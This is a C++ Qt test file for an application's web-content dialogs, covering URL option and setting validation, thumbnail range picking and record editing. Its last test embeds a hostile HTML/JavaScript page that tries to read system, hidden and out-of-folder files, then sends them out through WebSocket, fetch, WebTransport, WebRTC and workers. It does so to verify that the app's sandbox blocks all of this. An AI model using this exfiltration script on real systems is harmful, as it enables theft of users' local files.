// The web content dialogs: URL options, URL settings, the thumbnail range
// picker over the real browser (offscreen), and the frame's editing of web
// contents with the thumbnails written only after the list is saved.
#include "app/main_frame.h"
#include "widgets/web_dialogs.h"
#include "core/content_id.h"
#include "core/setting_ini.h"
#include "model/app_data.h"
#include "model/contents_list.h"
#include "model/contents_store.h"
#include "model/thumbnail_maker.h"
#include "model/web_property.h"
#include "ops/web_thumbnail.h"
#include "shell_fixture.h"
#include "ui/contents/url_opt_dlg.h"
#include "ui/contents/url_set_dlg.h"
#include "ui/contents/url_thumb_view_dlg.h"

#include <QDir>
#include <QFile>
#include <QLineEdit>
#include <QNetworkDatagram>
#include <QFileInfo>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTest>
#include <QTimeEdit>
#include <QUdpSocket>
#include <QWebEnginePage>
#include <QWebEngineView>

namespace {

class UrlDialogs : public ShellTest {
protected:
    static QLineEdit *edit(QWidget *dialog, int id) { return dialog->findChild<QLineEdit *>(QString::number(id)); }
    void setLocalUrl(bool on)
    {
        SystemOptions options = GetSettingIni().Options();
        options.SILocalUrl = on;
        GetSettingIni().SetOptions(options);
    }
    QString writePage(const QString &name, const QByteArray &html)
    {
        QDir().mkpath(m_home.filePath("pages"));
        QFile file(m_home.filePath("pages/" + name));
        EXPECT_TRUE(file.open(QIODevice::WriteOnly));
        file.write(html);
        return file.fileName();
    }
    // Shows the range picker off screen until its page has loaded.
    static bool showUntilReady(CUrlThumbViewDlg &dialog)
    {
        dialog.setAttribute(Qt::WA_DontShowOnScreen);
        QSignalSpy ready(&dialog, &CUrlThumbViewDlg::PageReady);
        dialog.show();
        return !ready.isEmpty() || ready.wait(30000);
    }
};

// Answers the frame's dialogs as a test sets them up.
class FakeWebDialogs final : public IWebDialogs {
public:
    FakeWebDialogs() { SetWebDialogs(this); }
    ~FakeWebDialogs() override { SetWebDialogs(nullptr); }
    bool RunUrlSetDlg(QWidget *, CWebProperty &record, qint32 newIndex, UrlSetResult &result) override
    {
        offered = newIndex;
        record.SetUrl(url);
        record.SetTitle("page");
        if (record.GetIndex() == 0)
            record.SetIndex(newIndex);
        result = answer;
        return true;
    }
    bool RunUrlOptDlg(QWidget *, UrlOptValues &values) override
    {
        values = options;
        return true;
    }
    QString url = "http://example.invalid/";
    UrlSetResult answer;
    UrlOptValues options;
    qint32 offered = 0;
};

} // namespace

TEST_F(UrlDialogs, OptionsCheckShiftAndPeriod)
{
    ASSERT_TRUE(startUp());
    CUrlOptDlg dialog({0, 300, 0, 90});
    EXPECT_EQ(edit(&dialog, CUrlOptDlg::IDC_X)->text(), "");
    EXPECT_EQ(edit(&dialog, CUrlOptDlg::IDC_Y)->text(), "300");
    auto *period = dialog.findChild<QTimeEdit *>("1346");
    EXPECT_EQ(period->time(), QTime(0, 1, 30));

    edit(&dialog, CUrlOptDlg::IDC_X)->setText("1921");
    m_prompter.expect(5112, IDOK);
    dialog.accept();
    EXPECT_EQ(m_prompter.last().arguments, QStringList{"1920"});
    edit(&dialog, CUrlOptDlg::IDC_X)->setText("");
    edit(&dialog, CUrlOptDlg::IDC_Y)->setText("12a");
    m_prompter.expect(5235, IDOK);
    dialog.accept();
    edit(&dialog, CUrlOptDlg::IDC_Y)->setText("1920");
    for (const QTime &refused : {QTime(0, 0, 4), QTime(23, 50, 1)}) {
        period->setTime(refused);
        m_prompter.expect(5239, IDOK);
        dialog.accept();
        EXPECT_EQ(dialog.result(), QDialog::Rejected);
    }
    period->setTime(QTime(23, 50, 0));
    dialog.accept();
    EXPECT_EQ(dialog.result(), QDialog::Accepted);
    EXPECT_EQ(dialog.GetValues().xOffset, 0);
    EXPECT_EQ(dialog.GetValues().yOffset, 1920);
    EXPECT_EQ(dialog.GetValues().reload, 85800);
}

TEST_F(UrlDialogs, SettingsCleanTheFieldsAndCheckTheAddress)
{
    ASSERT_TRUE(startUp());
    CUrlSetDlg dialog;
    dialog.SetProperty(CWebProperty());
    dialog.SetNewIndex(401000007);
    edit(&dialog, CUrlSetDlg::IDC_ADDRESS)->setText("http://www.example.invalid/a\tlong/path/to/the/page/index.html");
    m_prompter.expect(5375, IDYES);
    dialog.accept();
    ASSERT_EQ(dialog.result(), QDialog::Accepted);
    CWebProperty record;
    dialog.GetProperty(record);
    EXPECT_EQ(record.GetUrl(), "http://www.example.invalid/along/path/to/the/page/index.html");
    EXPECT_EQ(record.GetTitle(), "www.example.invalid/along/path/to/the/pa");
    EXPECT_EQ(record.GetIndex(), 401000007);

    CUrlSetDlg local;
    local.SetProperty(CWebProperty());
    edit(&local, CUrlSetDlg::IDC_ADDRESS)->setText("/srv/pages/a.htm");
    setLocalUrl(false);
    m_prompter.expect(5447, IDOK);
    local.accept();
    setLocalUrl(true);
    edit(&local, CUrlSetDlg::IDC_ADDRESS)->setText("pages/a.htm");
    m_prompter.expect(5448, IDOK);
    local.accept();
    edit(&local, CUrlSetDlg::IDC_ADDRESS)->setText(m_home.filePath("pages/missing.htm"));
    m_prompter.expect(5201, IDOK);
    local.accept();
    edit(&local, CUrlSetDlg::IDC_ADDRESS)->setText(writePage("a.htm", "<html></html>"));
    local.accept();
    EXPECT_EQ(local.result(), QDialog::Accepted);
}

TEST_F(UrlDialogs, SettingsOfStoredAndSampleContents)
{
    ASSERT_TRUE(startUp());
    CWebProperty stored;
    stored.SetIndex(MakeContentId(4, 1, 12));
    stored.SetUrl("http://a.invalid/");
    CUrlSetDlg again;
    again.SetProperty(stored);
    again.SetNewIndex(MakeContentId(4, 1, 13));
    m_prompter.expect(5000, IDNO);
    again.accept();
    ASSERT_EQ(again.result(), QDialog::Accepted);
    CWebProperty copy;
    again.GetProperty(copy);
    EXPECT_EQ(copy.GetIndex(), MakeContentId(4, 1, 13));
    EXPECT_EQ(again.GetResult().copyThumbnailsFrom, MakeContentId(4, 1, 12));

    CWebProperty sample;
    sample.SetIndex(MakeContentId(4, 1, 999001));
    sample.SetUrl("http://a.invalid/");
    CUrlSetDlg edited;
    edited.SetProperty(sample);
    edit(&edited, CUrlSetDlg::IDC_TITLE)->setText("changed");
    m_prompter.expect(5002, IDNO);
    edited.accept();
    EXPECT_EQ(edited.result(), QDialog::Rejected);

    // Cancel with changes asks first.
    CUrlSetDlg cancelled;
    cancelled.SetProperty(stored);
    edit(&cancelled, CUrlSetDlg::IDC_TITLE)->setText("x");
    edit(&cancelled, CUrlSetDlg::IDC_TITLE)->textEdited("x");
    m_prompter.expect(5004, IDNO);
    cancelled.reject();
    EXPECT_TRUE(m_prompter.pendingAnswers() == 0);
}

TEST_F(UrlDialogs, EditingStoresTheRecordThenItsThumbnails)
{
    CMainFrame *frame = startFrame();
    ASSERT_NE(frame, nullptr);
    FakeWebDialogs dialogs;
    QImage large(200, 100, QImage::Format_RGB888);
    large.fill(Qt::red);
    dialogs.answer.large = large;
    dialogs.answer.small = MakeSmallThumbnail(large);
    frame->EditUrl(nullptr);
    CContentsList *list = GetContentFolders().GetList(CONTENT_WEB);
    ASSERT_EQ(list->GetCount(), 1);
    auto *web = static_cast<CWebProperty *>(list->GetAt(0));
    EXPECT_EQ(web->GetIndex(), dialogs.offered);
    EXPECT_EQ(web->GetDataFormat(), "Web サーバー アクセス");
    const QString folder = ThumbnailFolder(GetAppData().GetDataRoot(), CONTENT_WEB);
    QString largePath;
    ASSERT_TRUE(MakeThumbnailPath(folder, web->GetIndex(), false, largePath));
    EXPECT_EQ(QImage(largePath).size(), QSize(200, 100));

    // A list that cannot be saved keeps the record and its thumbnails as they were.
    const QString listPath = GetContentFolders().GetListPath(CONTENT_WEB);
    ASSERT_TRUE(QFile::remove(listPath));
    ASSERT_TRUE(QDir().mkpath(listPath));
    QImage other(64, 64, QImage::Format_RGB888);
    other.fill(Qt::blue);
    dialogs.answer.large = other;
    dialogs.url = "http://changed.invalid/";
    m_prompter.expect(5114, IDOK);
    frame->EditUrl(web);
    EXPECT_EQ(static_cast<CWebProperty *>(list->GetAt(0))->GetUrl(), "http://example.invalid/");
    EXPECT_EQ(QImage(largePath).size(), QSize(200, 100));

    // The options go into the record in place.
    QDir().rmdir(listPath);
    dialogs.options = {10, 20, 0, 60};
    frame->EditUrlOpt(static_cast<CWebProperty *>(list->GetAt(0)));
    web = static_cast<CWebProperty *>(list->GetAt(0));
    EXPECT_EQ(web->GetXOffset(), 10);
    EXPECT_EQ(web->GetReload(), 60);
    EXPECT_EQ(web->GetOption(), 0);

    // A page newly given by its path that is shown without its folder is told about, once.
    dialogs.url = QDir::cleanPath(writePage("../home.html", "<html></html>"));
    m_prompter.expect(5438, IDOK);
    frame->EditUrl(static_cast<CWebProperty *>(list->GetAt(0)));
    EXPECT_EQ(m_prompter.last().arguments, QStringList{dialogs.url});
    frame->EditUrl(static_cast<CWebProperty *>(list->GetAt(0)));
    dialogs.url = writePage("own.html", "<html></html>");
    frame->EditUrl(static_cast<CWebProperty *>(list->GetAt(0)));
    EXPECT_EQ(static_cast<CWebProperty *>(list->GetAt(0))->GetUrl(), dialogs.url);
    EXPECT_EQ(m_prompter.prompts().size(), 2);
}

TEST_F(UrlDialogs, RangePickerMeasuresThePageAndDrawsTheChosenArea)
{
    ASSERT_TRUE(startUp());
    const QString page = writePage("quad.html", R"(<html><body><div style="width:2500px;height:900px;font-size:0">
<div style="display:inline-block;width:1250px;height:450px;background:#ff0000"></div><div
 style="display:inline-block;width:1250px;height:450px;background:#00ff00"></div><div
 style="display:inline-block;width:1250px;height:450px;background:#0000ff"></div><div
 style="display:inline-block;width:1250px;height:450px;background:#ffff00"></div>
<a href="http://example.invalid/" style="position:absolute;left:8px;top:8px">away</a></div></body></html>)");
    CWebProperty record;
    QImage small;
    QImage large;
    CUrlThumbViewDlg dialog(record, page, &small, &large);
    ASSERT_TRUE(showUntilReady(dialog)) << "the page never loaded";
    EXPECT_EQ(edit(&dialog, CUrlThumbViewDlg::IDC_WIDTH)->text(), "1920");
    EXPECT_EQ(edit(&dialog, CUrlThumbViewDlg::IDC_HEIGHT)->text(), "900");

    edit(&dialog, CUrlThumbViewDlg::IDC_WIDTH)->setText("20");
    m_prompter.expect(5108, IDOK);
    dialog.OnSetThumbnail();
    EXPECT_EQ(m_prompter.last().arguments, (QStringList{"32", "1920"}));
    EXPECT_TRUE(large.isNull());

    edit(&dialog, CUrlThumbViewDlg::IDC_WIDTH)->setText("1250");
    edit(&dialog, CUrlThumbViewDlg::IDC_HEIGHT)->setText("450");
    dialog.OnSetThumbnail();
    ASSERT_EQ(large.size(), QSize(1250, 450));
    EXPECT_GT(qRed(large.pixel(600, 200)), 200);
    EXPECT_LT(qGreen(large.pixel(600, 200)), 60);
    EXPECT_EQ(small.size(), QSize(94, 33));
    EXPECT_EQ(dialog.result(), 1);

    // A page shorter than the window is offered at the size the window
    // shows, not as a strip as high as its one line.
    const QString line = writePage("line.html", "<html><body>one line</body></html>");
    CUrlThumbViewDlg shortPage(record, line, &small, &large);
    ASSERT_TRUE(showUntilReady(shortPage)) << "the short page never loaded";
    const QWidget *browser = shortPage.findChild<QWidget *>(QString::number(CUrlThumbViewDlg::IDC_BROWSER));
    ASSERT_NE(browser, nullptr);
    EXPECT_EQ(edit(&shortPage, CUrlThumbViewDlg::IDC_HEIGHT)->text(), QString::number(browser->height()));
    EXPECT_EQ(edit(&shortPage, CUrlThumbViewDlg::IDC_WIDTH)->text(), QString::number(browser->width()));
}

// A registered page is not trusted: it and every worker it starts read its
// own folder and the Flash runtime, never a file elsewhere (also through a
// link, also through the runtime's scheme) nor a hidden file, and reach no
// host by any kind of request or transport (WebSocket, fetch, images,
// WebTransport, WebRTC); no other page reads its site.
TEST_F(UrlDialogs, ALocalPageReadsOnlyItsOwnFolderAndReachesNoHost)
{
    ASSERT_TRUE(startUp());
    QTcpServer listener;
    ASSERT_TRUE(listener.listen(QHostAddress::LocalHost));
    int heard = 0;
    QObject::connect(&listener, &QTcpServer::newConnection, &listener, [&] {
        while (QTcpSocket *socket = listener.nextPendingConnection()) {
            ++heard;
            socket->abort();
        }
    });
    QUdpSocket datagrams;
    ASSERT_TRUE(datagrams.bind(QHostAddress::LocalHost, 0));
    QObject::connect(&datagrams, &QUdpSocket::readyRead, &datagrams, [&] {
        while (datagrams.hasPendingDatagrams()) {
            ++heard;
            datagrams.receiveDatagram();
        }
    });
    // The runtime's two files, and links in its folder that lead out.
    const QString outside = m_home.filePath("outside.txt");
    QFile secret(outside);
    ASSERT_TRUE(secret.open(QIODevice::WriteOnly) && secret.write("secret") == 6);
    secret.close();
    const QString resources = m_home.filePath("resources");
    const QString runtime = QFileInfo(QStringLiteral(TELV_Q9_BINARY)).absolutePath() + "/flash-runtime/";
    QDir().mkpath(resources + "/flash-runtime");
    // The loader is the real one where there is one: the browser's profile
    // keeps it for the tests that follow.
    if (!QFile::copy(runtime + "telv-loader.js", resources + "/flash-runtime/telv-loader.js"))
        writePage("../resources/flash-runtime/telv-loader.js", "// stand-in");
    writePage("../resources/flash-runtime/ruffle.js", "// stand-in");
    ASSERT_TRUE(QFile::link(outside, resources + "/flash-runtime/out.txt"));
    ASSERT_TRUE(QFile::link(m_home.path(), resources + "/flash-runtime/home"));
    SetFlashResourceFolder(resources);
    writePage("own.txt", "own");
    writePage("own.js", "window.ownScript = 'js';");
    writePage("own.svg", R"(<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"><rect width="40" height="30" fill="red"/></svg>)");
    ASSERT_TRUE(QFile::link(outside, m_home.filePath("pages/link.txt")));
    writePage(".hidden.txt", "hidden");
    QDir().mkpath(m_home.filePath("pages/.hidden"));
    writePage(".hidden/inner.txt", "hidden");
    ASSERT_TRUE(QFile::link(m_home.filePath("pages/.hidden.txt"), m_home.filePath("pages/shown.txt")));
    // Reads and sends as the page does, from a shared worker and a service worker.
    writePage("worker.js", "onconnect = function (e) { e.ports[0].postMessage('script worker'); };");
    const QString port = QString::number(listener.serverPort());
    const QString udpPort = QString::number(datagrams.localPort());
    // A document of another kind, which no policy reaches, starting a worker that sends.
    writePage("frame.svg", R"(<svg xmlns="http://www.w3.org/2000/svg"><script>new SharedWorker('send.js');</script></svg>)");
    writePage("send.js", QStringLiteral("new WebSocket('ws://127.0.0.1:%1/svg'); fetch('http://127.0.0.1:%1/svg');").arg(port).toUtf8());
    const QString page = writePage("leak.html", QStringLiteral(R"(<!DOCTYPE html><html><body>
<img id="own" src="own.svg"><script src="own.js"></script><iframe src="frame.svg"></iframe><object data="frame.svg"></object>
<embed src="frame.svg" type="image/svg+xml">
<script>
function read(url) {
  try { var r = new XMLHttpRequest(); r.open('GET', url, false); r.send(); return r.status == 200 || r.status == 0 ? r.responseText : ''; }
  catch (e) { return ''; }
}
function send(data) {
  try { new WebSocket('ws://127.0.0.1:PORT/' + encodeURIComponent(data)); } catch (e) {}
  try { fetch('http://127.0.0.1:PORT/' + encodeURIComponent(data)).catch(function () {}); } catch (e) {}
  try { new WebTransport('https://127.0.0.1:UDP/' + encodeURIComponent(data)).ready.catch(function () {}); } catch (e) {}
}
window.stolen = read('file:///etc/hostname') + read('../outside.txt') + read('link.txt') + read('telv-res:/out.txt')
  + read('telv-res:/home/outside.txt') + read('.hidden.txt') + read('.hidden/inner.txt') + read('shown.txt');
window.own = read('own.txt') + read('telv-res:/ruffle.js').length;
var ended = 0;
function end() { ++ended; }
var socket = new WebSocket('ws://127.0.0.1:PORT/' + encodeURIComponent(window.stolen));
socket.onerror = socket.onclose = socket.onopen = function () { socket.onerror = socket.onclose = null; end(); };
fetch('http://127.0.0.1:PORT/fetch').then(end, end);
var image = new Image(); image.onload = image.onerror = end; image.src = 'http://127.0.0.1:PORT/image';
send(window.stolen);
var worker = read + '\n' + send + '\nonconnect = function (e) { var base = ' + JSON.stringify(location.href) + ';'
  + ' var stolen = read("file:///etc/hostname") + read(new URL("../outside.txt", base).href);'
  + ' send(stolen); e.ports[0].postMessage([stolen, read(new URL("own.txt", base).href)]); };';
window.workers = [];
try {
  var shared = new SharedWorker(URL.createObjectURL(new Blob([worker], {type: 'text/javascript'})));
  shared.port.onmessage = function (e) { window.workers.push(e.data); };
} catch (e) { window.workers.push(['', 'none']); }
try { new SharedWorker('worker.js').port.onmessage = function (e) { window.stolen += e.data; }; } catch (e) {}
try { navigator.serviceWorker.register('worker.js').catch(function () {}); } catch (e) {}
try {
  var peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'},
                                                 {urls: 'turn:127.0.0.1:UDP', username: 'u', credential: 'p' + window.stolen}]});
  peer.createDataChannel(window.stolen);
  peer.createOffer().then(function (offer) { return peer.setLocalDescription(offer); }).catch(function () {});
} catch (e) {}
var started = Date.now();
window.done = function () {
  return ended >= 3 && document.getElementById('own').complete && window.workers.length && Date.now() - started > 2000;
};
</script></body></html>)").replace("UDP", udpPort).replace("PORT", port).toUtf8());
    CWebProperty record;
    QImage small;
    QImage large;
    CUrlThumbViewDlg dialog(record, page, &small, &large);
    ASSERT_TRUE(showUntilReady(dialog)) << "the page never loaded";
    auto *view = dialog.findChild<QWebEngineView *>(QString::number(CUrlThumbViewDlg::IDC_BROWSER));
    ASSERT_NE(view, nullptr);
    // Shared: an answer still pending when the dialog closes arrives after this test's locals are gone.
    const auto answer = std::make_shared<QVariantList>();
    const auto ask = [view, answer] {
        view->page()->runJavaScript("window.done && window.done() ? [window.stolen, window.own, "
                                    "document.getElementById('own').naturalWidth, window.ownScript + document.compatMode, "
                                    "window.workers[0]] : null",
                                    [answer](const QVariant &value) { *answer = value.toList(); });
        return answer->size() == 5;
    };
    ASSERT_TRUE(QTest::qWaitFor(ask, 30000)) << "the page's requests never ended";
    SetFlashResourceFolder({});
    EXPECT_EQ(answer->at(0).toString().toStdString(), "");
    EXPECT_EQ(answer->at(1).toString().toStdString(), "own11");
    EXPECT_EQ(answer->at(2).toInt(), 40);
    EXPECT_EQ(answer->at(3).toString().toStdString(), "jsCSS1Compat");
    EXPECT_EQ(answer->at(4).toStringList(), (QStringList{"", "own"}));
    QCoreApplication::processEvents();
    EXPECT_EQ(heard, 0);

    // A web page that learns the site's name loads neither its script nor its image.
    QWebEngineView other;
    other.setAttribute(Qt::WA_DontShowOnScreen);
    other.show();
    QSignalSpy loaded(&other, &QWebEngineView::loadFinished);
    const QString site = view->url().adjusted(QUrl::RemovePath).toString();
    other.setHtml(QStringLiteral(R"(<html><body><img id="own" src="SITE/own.svg"><script src="SITE/own.js"></script>
</body></html>)").replace("SITE", site), QUrl("http://127.0.0.1:" + port + "/"));
    ASSERT_TRUE(loaded.wait(30000));
    const auto taken = std::make_shared<QVariantList>();
    ASSERT_TRUE(QTest::qWaitFor([&] {
        other.page()->runJavaScript("document.getElementById('own').complete ? [String(window.ownScript), "
                                    "document.getElementById('own').naturalWidth] : null",
                                    [taken](const QVariant &value) { *taken = value.toList(); });
        return taken->size() == 2;
    }, 30000));
    EXPECT_EQ(taken->at(0).toString().toStdString(), "undefined");
    EXPECT_EQ(taken->at(1).toInt(), 0);
}
